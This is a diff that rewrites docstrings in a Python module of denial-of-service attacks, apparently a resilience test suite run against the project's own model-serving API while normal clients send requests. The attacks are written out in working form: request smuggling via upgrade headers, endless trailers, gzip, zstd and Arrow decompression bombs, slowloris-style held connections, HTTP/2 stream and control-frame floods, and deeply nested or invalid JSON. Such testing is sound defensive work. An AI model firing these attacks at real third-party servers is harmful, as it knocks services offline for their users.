@@ -1,4 +1,4 @@
-"""Attacks on a server, each a function of its address that ends by itself."""
+"""Attacks on a server. Each attack is a function of the server's address and ends by itself."""
 
 import contextlib
 import gzip
@@ -23,13 +23,13 @@ Address = tuple[str, int]
 Attack = Callable[[Address], None]
 MEGABYTE: Final = 1_000_000
 _SECONDS: Final = 4.0
-"""How long an attack without an end of its own goes on."""
+"""Duration of an attack that has no end of its own."""
 _PATIENCE_S: Final = 60.0
 _SETTINGS: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0" + bytes(4)
 
 
 def _send(address: Address, pieces: Iterable[bytes], *, seconds: float = _SECONDS, read: bool = True) -> bytes:
-    """Send pieces on one connection for so long at most; return the begin of what answers them."""
+    """Send pieces on one connection for at most `seconds`; return the first bytes of the response."""
     end_s = time.monotonic() + seconds
     with contextlib.suppress(OSError), socket.create_connection(address, timeout=_PATIENCE_S) as connection:
         connection.settimeout(seconds)
@@ -44,7 +44,7 @@ def _send(address: Address, pieces: Iterable[bytes], *, seconds: float = _SECOND
 
 
 def _at_once(address: Address, requests: Iterable[bytes], clients: int = 8) -> None:
-    """Send requests, several at a time, and read the begin of each response."""
+    """Send requests in parallel, and read the first bytes of each response."""
     with ThreadPoolExecutor(clients) as threads:
         list(threads.map(lambda data: _send(address, [data]), requests))
 
@@ -56,14 +56,14 @@ def _post(path: str, body: bytes, *headers: str, stated: int | None = None) -> b
 
 
 def smuggled_requests(address: Address) -> None:
-    """Offer upgrades, with a second request as the body."""
+    """Send upgrade requests with a second request as the body."""
     body = b"POST /v2/repository/models/titanic/unload HTTP/1.1\r\nhost: x\r\ncontent-length: 0\r\n\r\n"
     offers = ("h2c", "websocket", "foo")
     _at_once(address, [_post("/api/predict", body, f"upgrade: {each}", "connection: upgrade") for each in offers * 10])
 
 
 def endless_trailers(address: Address) -> None:
-    """Send trailers without end behind a chunked body."""
+    """Send an endless sequence of trailers after a chunked body."""
 
     def pieces() -> Iterator[bytes]:
         yield b"POST /api/predict HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n"
@@ -76,14 +76,14 @@ def endless_trailers(address: Address) -> None:
 
 
 def compressed_quotes(address: Address) -> None:
-    """Send 4 kB of gzip that are 4 MB of quotes."""
+    """Send 4 kB of gzip that decompress to 4 MB of quotes."""
     packed = gzip.compress(b'{"records":[' + b'"' * 4_000_000)
     paths = ("/api/predict", "/v2/models/titanic/infer", "/api/explain")
     _at_once(address, [_post(path, packed, "content-encoding: gzip") for path in paths * 4])
 
 
 def held_bodies(address: Address) -> None:
-    """Send bodies all but their last byte on hundreds of connections, and wait."""
+    """Send all but the last byte of a body on hundreds of connections, and wait."""
     body = b" " * (4 * MEGABYTE)
     with contextlib.ExitStack() as held:
         end_s = time.monotonic() + 2 * _SECONDS
@@ -96,7 +96,7 @@ def held_bodies(address: Address) -> None:
 
 
 def held_streams(address: Address) -> None:
-    """Hold bodies by HTTP/2: a hundred streams of each connection, none of which ends."""
+    """Hold bodies over HTTP/2: a hundred streams on each connection, and no stream ends."""
     chunk = b"\0\x40\0" + b"\0\0"
 
     def pieces() -> Iterator[bytes]:
@@ -127,20 +127,20 @@ def _zstd(body: bytes) -> bytes:
 
 
 def wide_csv(address: Address) -> None:
-    """Send 145,000 columns with 2,048 rows, which are 20 kB of zstd."""
+    """Send a CSV of 145,000 columns and 2,048 rows, compressed by zstd to 20 kB."""
     names = ",".join([*PASSENGER, *(f"c{each}" for each in range(145_000))]).encode()
     body = _zstd(names + b"\n" + b"1,male,1,1,1,1,S\n" * 2048)
     _file(address, body, "content-type: text/csv", "content-encoding: zstd")
 
 
 def many_fields(address: Address) -> None:
-    """Send NDJSON with other fields in every line."""
+    """Send NDJSON with different extra fields in every line."""
     lines = (json.dumps(PASSENGER | {f"field {row} {each}": 1 for each in range(40)}) for row in range(2_000))
     body = "\n".join(lines).encode()
     _file(address, body, "content-type: application/x-ndjson", "accept: text/csv")
 
 
-def _ipc(table: pa.Table, codec: Any = None) -> bytes:  # noqa: ANN401 # pyarrow's own
+def _ipc(table: pa.Table, codec: Any = None) -> bytes:  # noqa: ANN401 # pyarrow's codec type
     out = io.BytesIO()
     with pa.ipc.new_stream(out, table.schema, options=pa.ipc.IpcWriteOptions(compression=codec)) as writer:
         writer.write_table(table)
@@ -148,7 +148,7 @@ def _ipc(table: pa.Table, codec: Any = None) -> bytes:  # noqa: ANN401 # pyarrow
 
 
 def arrow_bombs(address: Address) -> None:
-    """Send small Arrow streams that stand for much: dictionaries of long values, of lists, in many columns."""
+    """Send small Arrow streams that expand to large ones: dictionaries of long values, of lists, in many columns."""
     rows = 4_000
     zeros = pa.array([0] * rows, pa.int32())
     text = pa.array(["v" * 60_000])
@@ -171,7 +171,7 @@ def arrow_bombs(address: Address) -> None:
 
 
 def large_protobuf_json(address: Address) -> None:
-    """Send calls in protobuf's JSON of megabytes."""
+    """Send RPC requests with megabytes of protobuf JSON."""
     numbers = ["1"] * 700_000
     document = {
         "modelName": "titanic",
@@ -182,7 +182,7 @@ def large_protobuf_json(address: Address) -> None:
 
 
 def control_frames(address: Address) -> None:
-    """Flood connections of HTTP/2 with frames that carry no request."""
+    """Flood HTTP/2 connections with frames that carry no request."""
     ping = b"\0\0\x08\6\0" + bytes(4) + b"12345678"
     settings = b"\0\0\6\4\0" + bytes(4) + b"\0\4\0\1\0\0"
     window = b"\0\0\4\x08\0" + bytes(4) + b"\0\0\0\1"
@@ -200,20 +200,20 @@ def control_frames(address: Address) -> None:
 
 
 def _reset(stream: int) -> bytes:
-    """Return the head of a request, and that its client leaves."""
+    """Return a HEADERS frame of a request and a RST_STREAM frame that cancels it."""
     head = b"\x83\x86\x84\x01\x01x"
     number = stream.to_bytes(4, "big")
     return struct.pack(">I", len(head))[1:] + b"\1\4" + number + head + b"\0\0\4\3\0" + number + b"\0\0\0\x08"
 
 
 def large_requests(address: Address) -> None:
-    """Send many requests of thousands of rows at a time."""
+    """Send many requests of thousands of rows in parallel."""
     body = json.dumps({"records": [PASSENGER] * 2_000}).encode()
     _at_once(address, [_post("/api/predict", body)] * 64, 32)
 
 
 def deep_documents(address: Address) -> None:
-    """Send JSON that nests without end, and strings that are no UTF-8."""
+    """Send deeply nested JSON, and strings that are not valid UTF-8."""
     deep = [opened * 2_000_000 for opened in (b"[", b'{"a":')]
     wrong = [b'{"sex": "' + each * 300_000 + b'"}' for each in (b"\xff", b"\\ud800", b"\xed\xa0\x80")]
     paths = ("/api/predict", "/v2/models/titanic/infer", "/api/explain", INFER)
@@ -221,7 +221,7 @@ def deep_documents(address: Address) -> None:
 
 
 def crawling_clients(address: Address) -> None:
-    """Take every place for files, and send a byte now and then."""
+    """Take every place of the batch endpoint, and send one byte every 0.3 seconds."""
 
     def pieces() -> Iterator[bytes]:
         yield b"PUT /api/batch HTTP/1.1\r\nhost: x\r\ncontent-type: text/csv\r\ntransfer-encoding: chunked\r\n\r\n"
@@ -248,4 +248,4 @@ ATTACKS: Final = (
     deep_documents,
     crawling_clients,
 )
-"""Every attack, each beside good clients."""
+"""All attacks. Each runs while good clients send requests."""
